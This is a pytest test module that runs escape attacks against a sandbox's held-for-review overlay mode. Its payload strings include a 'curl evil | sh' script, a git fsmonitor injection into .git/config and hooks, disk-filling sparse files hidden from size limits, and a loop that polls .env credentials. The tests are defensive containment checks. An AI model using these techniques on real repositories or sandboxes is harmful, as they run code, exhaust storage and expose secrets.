"""A second round of attacks on --review (docs/design.md, "Changes held for review"):
the protections a live run has, through the overlay, and the layer's own limit.
Each test prints ESCAPED, and fails, only when the attack succeeded."""

from __future__ import annotations

import json
import os
import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Boxy
from tests.integration.reviewutil import ctl as _ctl
from tests.integration.reviewutil import nothing_held_after  # noqa: F401 (autouse)

pytestmark = pytest.mark.sandbox


def _run(boxy: Boxy, code: str, *flags: str) -> tuple[str, str]:
    """Run the Python CODE with --review: (the session id its last line names, or '';
    what it said)."""
    r = boxy.run("--net", "none", "--review", *flags, cmd=["python3", "-c", code], input=b"")
    text = r.stderr.decode(errors="replace") + r.stdout.decode(errors="replace")
    m = re.search(r"boxyctl diff (\w+)", text)
    return (m.group(1) if m else ""), text


def _held(boxy: Boxy, code: str, *flags: str) -> str:
    sid, text = _run(boxy, code, *flags)
    assert sid, text
    return sid


def _escaped(what: str) -> None:
    print(f"ESCAPED: {what}")
    pytest.fail(f"ESCAPED: {what}")


def _host_repo(boxy: Boxy) -> None:
    boxy.user.chown(boxy.workdir)
    git = ["git", "-C", str(boxy.workdir)]
    assert boxy.user.run([*git, "init", "-q"]).returncode == 0


# The git guard pins a gitdir and the directories above a nested one or a held file
# by binding each onto itself ("a mount point cannot be renamed away"). Under --review
# such a bind taken from the host's tree put the host's directory, writable, over the
# overlay: what the payload wrote there reached the host at once, held for nobody.
PINNED_DIRS = r"""
import os
open('.git/info/exclude', 'a').write('boxy-marker\n')
open('.git/ORIG_HEAD', 'w').write('0' * 40 + '\n')
open('vendor/lib/evil.py', 'w').write('import os\n')
open('tools/ci/new.sh', 'w').write('curl evil | sh\n')
for pinned in ('.git/config', 'tools/ci/.envrc', '.git/hooks/pre-commit'):
    try:
        open(pinned, 'a').write('\n[core]\n\tfsmonitor = touch PWNED\n')
        print('PIN-UNDONE', pinned)
    except OSError:
        pass
"""


def test_a_pinned_directory_is_no_way_around_the_overlay(boxy: Boxy) -> None:
    (boxy.workdir / "vendor" / "lib").mkdir(parents=True)
    (boxy.workdir / "tools" / "ci").mkdir(parents=True)
    (boxy.workdir / "tools" / "ci" / ".envrc").write_text("export A=1\n")
    _host_repo(boxy)
    lib = str(boxy.workdir / "vendor" / "lib")
    assert boxy.user.run(["git", "-C", lib, "init", "-q"]).returncode == 0
    sid, text = _run(boxy, PINNED_DIRS)
    early = [
        p
        for p in (".git/ORIG_HEAD", "vendor/lib/evil.py", "tools/ci/new.sh")
        if (boxy.workdir / p).exists()
    ]
    if "boxy-marker" in (boxy.workdir / ".git" / "info" / "exclude").read_text():
        early.append(".git/info/exclude")
    if early:
        _escaped(f"--review: the payload's writes reached the host before any review: {early}")
    if "PIN-UNDONE" in text:
        _escaped(f"--review: a pin a live run has was writable through the overlay: {text}")
    assert sid, text
    listed = {c["path"] for c in json.loads(_ctl(boxy, "diff", "--json", sid).stdout)["changes"]}
    assert {"vendor/lib/evil.py", "tools/ci/new.sh"} <= listed, listed


# The measure of the layer (reviewtree.footprint) runs as the user, who owns the layer
# but gets no further into a directory of mode 000 than anyone else: it skipped it,
# and what the payload wrote in it was never counted. Sparse (truncate): the layer's
# size is the length apply would write.
HIDDEN = "mkdir hide && truncate -s 100G hide/big && chmod 000 hide && sleep 8 && echo WROTE ALL"


def test_a_directory_of_mode_000_hides_nothing_from_the_layers_limit(boxy: Boxy) -> None:
    boxy.user.chown(boxy.workdir)
    r = boxy.sh(HIDDEN, "--net", "none", "--review", "--review-limit", "4MiB", input=b"")
    out, err = r.stdout.decode(), r.stderr.decode(errors="replace")
    if "WROTE ALL" in out:
        _escaped(f"--review-limit: 100G in a directory of mode 000 went unmeasured: {err}")
    assert "past its limit of 4" in err, err


# A file or directory of mode 000 in the layer made `diff` fail outright: the review
# child could not open it. Now it reads it as the layer's owner and shows the rest.
UNREADABLE = r"""
import os
os.makedirs('locked/deep')
open('locked/deep/secret.txt', 'w').write('inside a locked directory\n')
open('shut.txt', 'w').write('a file of mode 000\n')
open('plain.txt', 'w').write('plain\n')
os.chmod('shut.txt', 0)
os.chmod('locked/deep', 0)
os.chmod('locked', 0o100)
"""


def test_entries_of_mode_000_in_the_layer_are_diffed_and_applied(boxy: Boxy) -> None:
    boxy.user.chown(boxy.workdir)
    sid = _held(boxy, UNREADABLE)
    d = _ctl(boxy, "diff", sid)
    assert d.returncode == 0, d.stderr
    out = d.stdout.decode()
    for rel in ("locked/deep/secret.txt", "shut.txt", "plain.txt"):
        assert rel in out, out
    assert "inside a locked directory" in out, out
    a = _ctl(boxy, "apply", sid)
    said = (a.stdout + a.stderr).decode()
    assert (boxy.workdir / "plain.txt").read_text() == "plain\n", said
    assert os.stat(boxy.workdir / "shut.txt").st_mode & 0o777 == 0, said
    # `locked` lands as the payload made it (0100): what lies beneath cannot be
    # written there, and is refused by name
    assert a.returncode == 1 and "locked/deep" in said, said
    # discard removes a layer whose directories are of mode 000 (rmtree stopped there)
    d = _ctl(boxy, "discard", sid)
    assert d.returncode == 0, d.stderr
    assert not _ctl(boxy, "diff", sid).stdout


# A hard link's inode counted once: but apply writes each name as a file of its own
# (a sparse one whole), so 8 names of a 900MiB file are 7GiB to land under a 1GiB limit.
LINKS = (
    "truncate -s 900M f && for i in 1 2 3 4 5 6 7; do ln f l$i; done && sleep 8 && echo WROTE ALL"
)


def test_hard_links_count_as_what_apply_would_write(boxy: Boxy) -> None:
    boxy.user.chown(boxy.workdir)
    r = boxy.sh(LINKS, "--net", "none", "--review", "--review-limit", "1GiB", input=b"")
    out, err = r.stdout.decode(), r.stderr.decode(errors="replace")
    if "WROTE ALL" in out:
        _escaped(f"--review-limit: 8 names of 900MiB (apply writes each) ran on: {err}")
    assert "past its limit of 1" in err, err


# The host saves a credential while a held run goes on: it writes the overlay's lower
# layer, which the payload reads through the overlay. The live guard covers it there
# as in a live run; a name the payload looked up before it existed (the overlay may
# keep its absence) must not end up readable either.
READER = r"""
import json, sys, time
end = time.time() + 6
with open(sys.argv[1], 'a') as log:
    while time.time() < end:
        seen = {}
        for n in ('.env', 'cfg/.env'):
            try:
                seen[n] = open(n).read()
            except OSError as e:
                seen[n] = '!' + type(e).__name__
        log.write(json.dumps({'t': time.time(), 'seen': seen}) + '\n')
        log.flush()
        time.sleep(0.01)
"""


def _seen(path: Path) -> list[dict[str, Any]]:
    if not path.exists():
        return []
    return [json.loads(x) for x in path.read_text().splitlines() if x.endswith("}")]


def _wait(pred: Callable[[], object], what: str) -> None:
    deadline = time.monotonic() + 30
    while not pred():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.05)


def test_a_credential_the_host_saves_during_a_held_run_is_covered(boxy: Boxy) -> None:
    proj, obs = boxy.workdir / "proj", boxy.workdir / "obs"
    (proj / "cfg").mkdir(parents=True)
    obs.mkdir()
    boxy.user.chown(boxy.workdir)
    log = obs / "seen.jsonl"
    held = Boxy(boxy.user, proj)
    flags = ("--net", "none", "--review", "--rw", str(obs), "-d")
    r = held.run(*flags, cmd=["python3", "-c", READER, str(log)], input=b"")
    assert r.returncode == 0, r.stderr
    _wait(lambda: len(_seen(log)) > 20, "the payload to start looking")
    t = time.time()
    for rel in (".env", "cfg/.env"):
        (proj / rel).write_text("KEY=created-later\n")
        boxy.user.chown(proj / rel)
    sid = r.stdout.decode().strip().splitlines()[-1]

    def looked_or_ended() -> bool:
        if any(o["t"] > t + 1.5 for o in _seen(log)):
            return True
        return b"running" not in _ctl(boxy, "show", sid).stdout

    # the overlay may keep the absence the payload looked up: the guard then finds no
    # entry to cover in the sandbox's view, and stops the session (fails closed)
    _wait(looked_or_ended, "the payload to look past it, or its session to end")
    late = [o for o in _seen(log) if o["t"] > t + 1.0 and "created-later" in json.dumps(o)]
    if late:
        _escaped(f"a held run read a credential the host saved during it: {late[0]}")
